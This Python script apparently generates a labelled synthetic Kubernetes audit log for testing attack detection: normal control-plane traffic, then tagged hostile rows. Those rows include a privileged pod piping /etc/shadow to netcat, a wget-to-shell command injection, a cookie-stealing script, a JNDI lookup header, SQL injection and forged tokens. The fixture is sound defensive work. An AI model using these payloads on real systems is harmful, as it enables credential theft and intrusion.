#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Writes placement.jsonl: some minutes of an invented cluster, then what somebody does to it.

One JSON object a line: t, client_ip, user, groups, auth (cert, bearer, none), method, path, headers,
body_b64, status, response_len; hostile rows have `kind`. Same seed, same file.
"""
import base64
import json
import os
import random

rnd = random.Random(20)
T0 = 1790000000.0
rows = []


def b64(data):
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def token(ns, name, pod, serial):
    """Shaped like a service account's token; signed by nobody."""
    claims = {"iss": "https://kubernetes.default.svc", "sub": f"system:serviceaccount:{ns}:{name}",
              "exp": 1790090000, "jti": serial,
              "kubernetes.io": {"namespace": ns, "serviceaccount": {"name": name}, "pod": {"name": pod}}}
    head = b64(json.dumps({"alg": "RS256", "kid": "k1"}).encode())
    return f"{head}.{b64(json.dumps(claims).encode())}.{b64(serial.encode() * 8)}"


class Who:
    def __init__(self, ip, agent, user, auth, groups=(), bearer=None):
        self.ip, self.agent, self.user, self.auth = ip, agent, user, auth
        self.groups, self.bearer = list(groups), bearer


def add(t, who, method, path, body=None, status=200, length=800, ctype="application/json", kind=None,
        extra=()):
    headers = [["Host", "10.98.0.2:6443"], ["User-Agent", who.agent], ["Accept", "application/json"]]
    if who.bearer:
        headers.append(["Authorization", "Bearer " + who.bearer])
    row = {"t": round(T0 + t, 6), "client_ip": who.ip, "user": who.user, "groups": who.groups,
           "auth": who.auth, "method": method, "path": path, "status": status, "response_len": length}
    if body is not None:
        data = body if isinstance(body, bytes) else json.dumps(body).encode()
        headers += [["Content-Type", ctype], ["Content-Length", str(len(data))]]
        row["body_b64"] = base64.b64encode(data).decode()
    row["headers"] = headers + [list(e) for e in extra]
    if kind:
        row["kind"] = kind
    rows.append(row)


KUBELET = "kubelet/v1.32.4 (linux/amd64) kubernetes/59526cd"
KUBECTL = "kubectl/v1.32.4 (linux/amd64) kubernetes/59526cd"
nodes = [Who(f"10.98.0.{20 + i}", KUBELET, f"system:node:node-{i}", "cert", ["system:nodes"])
         for i in (1, 2, 3)]
scheduler = Who("10.98.0.30", "kube-scheduler/v1.32.4 (linux/amd64) kubernetes/59526cd/scheduler",
                "system:kube-scheduler", "cert")
manager = Who("10.98.0.31", "kube-controller-manager/v1.32.4 (linux/amd64) kubernetes/59526cd",
              "system:kube-controller-manager", "cert")
alice = Who("10.98.0.40", KUBECTL, "alice", "cert", ["dev"])
bob = Who("10.98.0.41", KUBECTL, "bob", "cert", ["dev", "ops"])
web = Who("10.98.0.50", "web/2.3 python-requests/2.31", "system:serviceaccount:shop:web", "bearer",
          bearer=token("shop", "web", "web-1", "serial-web-1"))
cart = Who("10.98.0.51", "cart/1.9 okhttp/4.12", "system:serviceaccount:shop:cart", "bearer",
           bearer=token("shop", "cart", "cart-1", "serial-cart-1"))
cart2 = Who("10.98.0.51", cart.agent, cart.user, "bearer",
            bearer=token("shop", "cart", "cart-1", "serial-cart-2"))
# Their tokens are renewed: each new one is only claimed until its first answer.
batch = [[Who(f"10.98.0.{90 + i}", "batch/0.4 go-resty/2", f"system:serviceaccount:jobs:batch-{i}",
              "bearer", bearer=token("jobs", f"batch-{i}", f"batch-{i}-{k}", f"serial-{i}-{k}"))
          for k in range(3)] for i in range(5)]
probe = Who("10.98.0.60", "blackbox/0.25", "system:anonymous", "none")


def lease(node, n):
    return {"kind": "Lease", "apiVersion": "coordination.k8s.io/v1",
            "metadata": {"name": node, "namespace": "kube-node-lease"},
            "spec": {"holderIdentity": node, "leaseDurationSeconds": 40,
                     "renewTime": f"2026-09-21T15:{n // 6:02d}:{n % 6 * 10:02d}.000000Z"}}


def config_map(name, n):
    return {"kind": "ConfigMap", "apiVersion": "v1", "metadata": {"name": name, "namespace": "shop"},
            "data": {"level": rnd.choice(["info", "debug", "warn"]), "workers": str(n % 7 + 1),
                     "greeting": "good morning number %d" % n}}


def pod(name, ns="shop", **spec):
    base = {"containers": [{"name": "main", "image": "registry.example/shop/web:2.3",
                            "ports": [{"containerPort": 8080}],
                            "resources": {"limits": {"cpu": "250m", "memory": "128Mi"}}}],
            "restartPolicy": "Always"}
    base.update(spec)
    return {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": name, "namespace": ns,
            "labels": {"app": name}}, "spec": base}


def normal():
    for n in range(18):
        t = n * 10.0
        for i, node in enumerate(nodes):
            name = node.user.rsplit(":", 1)[1]
            add(t + i * 0.7, node, "PUT",
                f"/apis/coordination.k8s.io/v1/namespaces/kube-node-lease/leases/{name}?timeout=10s",
                lease(name, n))
            add(t + i * 0.7 + 0.2, node, "GET", f"/api/v1/nodes/{name}?resourceVersion=0&timeout=10s",
                length=4000 + n)
            add(t + i * 0.7 + 0.3, node, "PATCH", f"/api/v1/nodes/{name}/status?timeout=10s",
                {"status": {"conditions": [{"type": "Ready", "status": "True",
                                            "lastHeartbeatTime": "2026-09-21T15:00:00Z"}]}},
                ctype="application/strategic-merge-patch+json")
        add(t + 3.1, scheduler, "GET", "/api/v1/nodes?limit=500&resourceVersion=0", length=20000)
        add(t + 3.2, scheduler, "PUT",
            "/apis/coordination.k8s.io/v1/namespaces/kube-system/leases/kube-scheduler?timeout=5s",
            lease("kube-scheduler", n))
        add(t + 4.0, manager, "GET", "/apis/apps/v1/replicasets?limit=500&resourceVersion=0",
            length=9000)
        add(t + 4.1, manager, "POST", "/api/v1/namespaces/shop/pods", pod(f"web-{n}"), status=201)
        add(t + 5.0, alice, "GET", "/api/v1/namespaces/shop/pods?limit=500", length=7000)
        add(t + 5.4, alice, "PUT", "/api/v1/namespaces/shop/configmaps/settings"
            "?fieldManager=kubectl-edit", config_map("settings", n))
        add(t + 5.9, bob, "GET", f"/apis/apps/v1/namespaces/shop/deployments/{rnd.choice(['web', 'cart'])}")
        add(t + 6.2, bob, "PATCH", "/apis/apps/v1/namespaces/shop/deployments/web/scale",
            {"spec": {"replicas": n % 4 + 1}}, ctype="application/merge-patch+json")
        for k in range(3):
            add(t + 6.5 + k, web, "GET", "/api/v1/namespaces/shop/configmaps/settings",
                status=404 if n == 0 and k == 0 else 200)
        who = cart if n < 11 else cart2
        add(t + 7.1, who, "GET", "/api/v1/namespaces/shop/endpoints/web?resourceVersion=0")
        add(t + 8.2, who, "GET", "/api/v1/namespaces/shop/services?labelSelector=app%3Dweb",
            length=1500)
        for i, renewed in enumerate(batch):
            for k in range(2):
                add(t + 1.0 + i + k * 0.01, renewed[n // 6], "GET",
                    f"/api/v1/namespaces/jobs/configmaps/input-{i}", status=404 if k == 0 else 200)
        add(t + 9.0, probe, "GET", "/readyz", length=2)
        add(t + 9.5, probe, "GET", "/version", length=260)


def attacks():
    t = 190.0
    stolen = Who("10.98.0.77", "curl/8.5.0", web.user, "bearer", bearer=web.bearer)
    forged = Who("10.98.0.78", "curl/8.5.0", cart.user, "bearer",
                 bearer=token("shop", "cart", "cart-9", "serial-made-up"))
    shell = Who(web.ip, "curl/8.5.0", web.user, "bearer", bearer=web.bearer)
    add(t, shell, "GET", "/api/v1/namespaces/shop/secrets", status=403, length=300, kind="theft")
    add(t + 1, shell, "POST", "/api/v1/namespaces/shop/pods",
        pod("helper", hostPID=True, containers=[{"name": "x", "image": "alpine", "securityContext":
            {"privileged": True}, "command": ["sh", "-c", "cat /etc/shadow | nc 10.0.0.9 4444"]}]),
        status=201, kind="theft")
    add(t + 2, stolen, "GET", "/api/v1/secrets?limit=500", status=403, length=300, kind="theft")
    add(t + 2.5, stolen, "GET", "/api/v1/namespaces/kube-system/pods", status=403, kind="theft")
    for k in range(6):
        add(t + 3 + k * 0.3, forged, "GET", "/api/v1/namespaces/shop/services", status=401, length=129,
            kind="forged")
    add(t + 6, bob, "GET", "/api/v1/namespaces/shop/pods?labelSelector=app%3D1%27%20union%20select%20"
        "password%20from%20users--", kind="sqli")
    add(t + 6.5, bob, "GET", "/api/v1/namespaces/shop/pods/web-1/log?container=$(wget%20-O-%20http%3A"
        "%2F%2Fbad.example%2Fx%7Csh)", status=400, kind="shell")
    add(t + 7, alice, "PUT", "/api/v1/namespaces/shop/configmaps/settings",
        {"kind": "ConfigMap", "apiVersion": "v1", "metadata": {"name": "settings", "namespace": "shop"},
         "data": {"greeting": "<script>document.location='http://bad.example/'+document.cookie</script>"}},
        kind="script")
    add(t + 7.5, probe, "GET", "/version", kind="template",
        extra=[["X-Api-Version", "${jndi:ldap://bad.example/a}"]])
    add(t + 8, alice, "POST", "/api/v1/namespaces/shop/configmaps", b'{"kind":"ConfigMap","data":{"a":',
        status=400, kind="malformed")
    add(t + 8.5, alice, "POST", "/api/v1/namespaces/shop/configmaps",
        b'{"data":' + b"[" * 90 + b"]" * 90 + b"}", status=400, kind="deep")
    add(t + 9, alice, "POST", "/api/v1/namespaces/shop/configmaps",
        {"kind": "ConfigMap", "data": {"blob": "A" * 30000}}, status=201, kind="large")
    for k in range(150):
        add(t + 12 + k * 0.003, web, "GET", f"/api/v1/namespaces/shop/pods/web-{k}", status=404,
            length=200, kind="burst")
    for k in range(4):
        add(t + 16 + k, node_thief, "GET", "/api/v1/namespaces/kube-system/secrets/admin-token",
            status=403, kind="node")


node_thief = Who("10.98.0.79", "Go-http-client/2.0", nodes[0].user, "cert", ["system:nodes"])
normal()
attacks()
rows.sort(key=lambda row: row["t"])
with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "placement.jsonl"), "w") as out:
    for row in rows:
        out.write(json.dumps(row, separators=(",", ":")) + "\n")
